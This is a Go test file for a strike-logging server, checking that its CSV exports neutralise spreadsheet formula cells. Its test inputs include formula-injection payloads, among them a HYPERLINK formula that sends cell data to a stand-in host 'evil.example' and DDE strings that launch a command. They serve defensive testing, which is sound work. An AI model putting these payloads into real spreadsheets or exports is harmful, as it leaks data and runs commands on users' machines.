package server_test

import (
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/protectmap/protectmap/geo/export"
)

// TestCSVFormulaCells records strikes whose text a spreadsheet would
// evaluate and reads them back from every CSV the strike log writes: each
// cell is written through export.NeutralCell, so none begins with a
// formula character, and numbers, negative ones included, stay numbers.
func TestCSVFormulaCells(t *testing.T) {
	f := newStrikeFixture(t, sqliteStore(t))
	texts := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1", "-12.5"}
	var features []string
	for i, s := range texts {
		features = append(features, strikeAt(-0.5-float64(i), 50, moratoriumStart.Add(time.Duration(i)*time.Hour),
			fmt.Sprintf(`"source":%q,"event_id":%q,"weapon":%q,"notes":%q`, s, fmt.Sprint(i), s, s)))
	}
	f.post(t, "application/geo+json", collectionOf(features...), http.StatusCreated)
	for _, target := range []string{"/strikes?f=csv&limit=100", "/report?from=2025-01-01&f=csv"} {
		t.Run(target, func(t *testing.T) {
			rec := f.get(t, target)
			if rec.Code != 200 {
				t.Fatalf("%d\n%s", rec.Code, rec.Body)
			}
			rows, col := readCSV(t, rec.Body)
			if len(rows) != len(texts)+1 {
				t.Fatalf("%d rows, want %d strikes", len(rows)-1, len(texts))
			}
			for _, r := range rows[1:] {
				i := 0
				fmt.Sscan(r[col["event_id"]], &i)
				want := export.NeutralCell(texts[i])
				for _, name := range []string{"source", "weapon", "notes"} {
					if r[col[name]] != want {
						t.Errorf("strike %d: %s %q, want %q", i, name, r[col[name]], want)
					}
				}
				if want != "-12.5" && !strings.HasPrefix(want, "'") {
					t.Errorf("strike %d: %q is not neutralised", i, want)
				}
				if lon := fmt.Sprint(-0.5 - float64(i)); r[col["longitude"]] != lon {
					t.Errorf("strike %d: longitude %q, want the number %s", i, r[col["longitude"]], lon)
				}
			}
		})
	}
}

// readCSV reads a CSV with a header row: its rows, header first, and the
// index of each column by name.
func readCSV(t *testing.T, r io.Reader) ([][]string, map[string]int) {
	t.Helper()
	rows, err := csv.NewReader(r).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("CSV of %d rows: %v", len(rows), err)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	return rows, col
}
